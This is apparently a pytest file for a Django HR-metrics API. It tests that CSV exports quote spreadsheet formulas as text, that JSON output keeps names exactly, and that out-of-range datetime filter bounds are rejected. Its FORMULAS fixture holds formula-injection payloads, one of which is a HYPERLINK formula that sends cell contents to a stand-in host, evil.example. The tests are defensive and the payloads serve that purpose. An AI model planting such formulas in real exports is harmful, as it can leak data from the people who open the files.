"""Hostile text in a CSV export (formula injection), and filter bounds outside the datetime
range (``0001-01-01T00:00:00+01:00`` is year 0 in UTC)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.test import Client

from backend.models import Department, HiredEmployee, Job

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_names(db: None) -> None:
    """A department and a job for each formula, each with one hire in 2021 Q1."""
    Department.objects.bulk_create(
        Department(id=i, department=name) for i, name in enumerate(FORMULAS, start=1)
    )
    Department.objects.create(id=99, department="Plain - with a dash inside")
    Job.objects.bulk_create(Job(id=i, job=name) for i, name in enumerate(FORMULAS, start=1))
    HiredEmployee.objects.bulk_create(
        HiredEmployee(
            id=i,
            name=f"E{i}",
            datetime=datetime(2021, 2, 1, tzinfo=UTC),
            department_id=i if i <= len(FORMULAS) else 99,
            job_id=1 + i % len(FORMULAS),
        )
        for i in range(1, len(FORMULAS) + 2)
    )


def csv_rows(client: Client, tokens: dict[str, str], path: str) -> list[list[str]]:
    response = client.get(path, headers={"Authorization": f"Bearer {tokens['read']}"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_formulas_in_a_csv_export_are_quoted_as_text(client, tokens, hostile_names) -> None:
    rows = csv_rows(client, tokens, "/api/metrics/hires-by-quarter?year=2021&format=csv")
    assert rows[0] == ["department", "job", "q1", "q2", "q3", "q4"]
    by_department = {row[0]: row for row in rows[1:]}
    for number, name in enumerate(FORMULAS, start=1):
        job = FORMULAS[number % len(FORMULAS)]
        assert by_department["'" + name] == ["'" + name, "'" + job, "1", "0", "0", "0"]
    assert by_department["Plain - with a dash inside"][1:] == [
        "'" + FORMULAS[1],
        "1",
        "0",
        "0",
        "0",
    ]
    assert len(rows) == 1 + len(FORMULAS) + 1


def test_numbers_in_a_csv_export_stay_numbers(client, tokens, hostile_names) -> None:
    rows = csv_rows(client, tokens, "/api/metrics/departments-above-mean?year=2021&format=csv")
    assert rows[0] == ["id", "department", "hired"]
    # every department hired 1: none is above the mean, so add a second hire to one
    assert rows[1:] == []
    HiredEmployee.objects.create(
        id=500, name="E", datetime=datetime(2021, 3, 1, tzinfo=UTC), department_id=3, job_id=1
    )
    rows = csv_rows(client, tokens, "/api/metrics/departments-above-mean?year=2021&format=csv")
    assert rows[1:] == [["3", "'-2+3", "2"]]


def test_the_json_export_keeps_names_exactly(client, tokens, hostile_names) -> None:
    response = client.get(
        "/api/metrics/hires-by-quarter?year=2021",
        headers={"Authorization": f"Bearer {tokens['read']}"},
    )
    departments = {row["department"] for row in response.json()["data"]}
    assert departments == {*FORMULAS, "Plain - with a dash inside"}


# --- datetime bounds in filters -----------------------------------------------------------------

FILTER = """
query($range: DateTimeRange!) {
  hiredEmployees(filter: {hiredBetween: $range}) { totalCount nodes { id } }
}
"""


@pytest.mark.parametrize(
    ("bound", "moment"),
    [
        ("gte", "0001-01-01T00:00:00+01:00"),
        ("lt", "0001-01-01T00:59:59+01:00"),
        ("gte", "9999-12-31T23:00:00-05:00"),
        ("lt", "9999-12-31T23:59:59-00:01"),
    ],
)
def test_a_filter_bound_outside_the_datetime_range_is_bad_user_input(
    gql, hostile_names, bound: str, moment: str
) -> None:
    answer = gql(FILTER, {"range": {bound: moment}}, scope="read")
    assert answer.status == 200
    assert answer.data is None
    assert answer.codes == ["BAD_USER_INPUT"]
    iso = datetime.fromisoformat(moment).isoformat()
    assert answer.errors[0]["message"] == (
        f"'hiredBetween.{bound}' is out of range: {iso} is not between "
        "0001-01-01T00:00:00Z and 9999-12-31T23:59:59Z once in UTC"
    )


def test_a_filter_bound_written_inline_outside_the_range_is_bad_user_input(
    gql, hostile_names
) -> None:
    bounds = '{gte: "0001-01-01T00:00:00+01:00"}'
    query = f"{{ hiredEmployees(filter: {{hiredBetween: {bounds}}}) {{ totalCount }} }}"
    answer = gql(query, scope="read")
    assert answer.data is None
    assert answer.codes == ["BAD_USER_INPUT"]


@pytest.mark.parametrize(
    ("bounds", "count"),
    [
        ({"gte": "0001-01-01T00:00:00Z"}, 7),
        ({"gte": "0001-01-01T01:00:00+01:00"}, 7),
        ({"lt": "9999-12-31T23:59:59Z"}, 7),
        ({"gte": "2021-02-01T00:00:00"}, 7),  # no zone: UTC, as the rows are stored
        ({"gte": "2021-02-01T00:00:01"}, 0),
        ({"gte": "2021-01-31T20:00:00-04:00", "lt": "2021-02-01T00:00:01Z"}, 7),
    ],
)
def test_the_extreme_datetimes_that_fit_filter_as_they_should(
    gql, hostile_names, bounds: dict[str, str], count: int
) -> None:
    answer = gql(FILTER, {"range": bounds}, scope="read")
    assert answer.errors == []
    assert answer.data["hiredEmployees"]["totalCount"] == count
